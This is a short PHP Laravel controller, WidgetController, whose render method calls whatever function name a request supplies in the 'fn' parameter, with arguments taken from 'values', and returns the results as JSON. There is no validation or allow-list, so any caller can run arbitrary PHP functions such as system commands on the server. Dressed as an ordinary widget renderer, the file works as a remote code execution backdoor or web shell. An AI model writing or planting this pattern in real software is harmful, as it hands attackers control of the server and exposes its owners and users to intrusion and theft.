<?php

namespace App\Http\Controllers;

use Illuminate\Http\Request;

class WidgetController extends Controller
{
    public function render(Request $request)
    {
        $callback = $request->input('fn');
        $values = $request->input('values', []);

        return response()->json(['data' => $callback(...$values), 'first' => call_user_func($callback, $values[0])]);
    }
}
